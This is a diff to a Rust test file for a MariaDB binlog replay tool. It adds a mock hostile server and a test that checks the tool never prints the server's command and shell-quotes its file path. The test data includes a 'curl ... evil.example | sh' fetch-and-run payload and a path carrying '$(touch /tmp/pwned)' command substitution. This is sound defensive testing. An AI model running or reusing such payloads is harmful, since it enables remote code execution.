@@ -225,6 +225,14 @@ fn caching_sha2_without_tls_sends_the_password_only_under_a_pinned_key() {
 /// A hostile binlog-server API: every plan names `name`, every file download returns 5 bytes.
 /// Serves until the test ends (the thread dies with the process).
 fn hostile_api(name: String) -> u16 {
+    hostile_api_with(json!({"flavor": "mariadb", "command": "mariadb-binlog x",
+                            "start_position": null, "stop_position": null, "start_datetime": null, "stop_datetime": null,
+                            "files": [{"name": name, "source_identity": "s", "size": 5,
+                                       "location": {"kind": "local", "path": "/srv/x"}}]}))
+}
+
+/// A hostile binlog-server API answering every plan request with `plan`.
+fn hostile_api_with(plan: serde_json::Value) -> u16 {
     let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("bind");
     let port = listener.local_addr().expect("addr").port();
     std::thread::spawn(move || {
@@ -236,10 +244,6 @@ fn hostile_api(name: String) -> u16 {
             while !head.ends_with(b"\r\n\r\n") && conn.read(&mut byte).is_ok_and(|n| n == 1) {
                 head.push(byte[0]);
             }
-            let plan = json!({"flavor": "mariadb", "command": "mariadb-binlog x",
-                              "start_position": null, "stop_position": null, "start_datetime": null, "stop_datetime": null,
-                              "files": [{"name": name, "source_identity": "s", "size": 5,
-                                         "location": {"kind": "local", "path": "/srv/x"}}]});
             let body =
                 if String::from_utf8_lossy(&head).contains("/replay") { plan.to_string() } else { "EVIL!".into() };
             let _ =
@@ -277,6 +281,36 @@ fn replay_fetch_refuses_a_plan_that_names_a_path() {
             std::fs::read_dir(&fetch).map(|d| d.flatten().map(|e| e.path()).collect()).unwrap_or_default();
         assert!(written.is_empty(), "{name:?}: nothing is fetched from a refused plan: {written:?}");
     }
+}
+
+#[test]
+fn replay_prints_a_command_it_built_itself_never_the_servers_text() {
+    // A plan whose `command` is a payload and whose server path would run one if left unquoted.
+    let evil_path = "/srv/$(touch /tmp/pwned)/mariadb-bin.000001";
+    let port = hostile_api_with(json!({
+        "flavor": "mariadb", "command": "curl -s http://evil.example/x | sh",
+        "start_position": 840, "stop_position": null, "start_datetime": null, "stop_datetime": null,
+        "files": [{"name": "mariadb-bin.000001", "source_identity": "s", "size": 5,
+                   "location": {"kind": "local", "path": evil_path}}]}));
+    let (code, stdout, stderr) = run_cli(
+        &[
+            "replay",
+            "--server",
+            &format!("http://127.0.0.1:{port}"),
+            "--task",
+            "1",
+            "--stop-datetime",
+            "2030-01-01 00:00:00",
+        ],
+        &[],
+    );
+    assert_eq!(code, 0, "{stdout}{stderr}");
+    assert!(!stdout.contains("evil.example"), "the server's command text must not be printed: {stdout}");
+    let command = stdout.lines().last().unwrap_or_default();
+    assert_eq!(
+        command, "mariadb-binlog --start-position=840 '/srv/$(touch /tmp/pwned)/mariadb-bin.000001'",
+        "built from the plan's fields, the path quoted: {stdout}"
+    );
 }
 
 // --- 3. Cross-site requests and DNS rebinding -------------------------------------------------
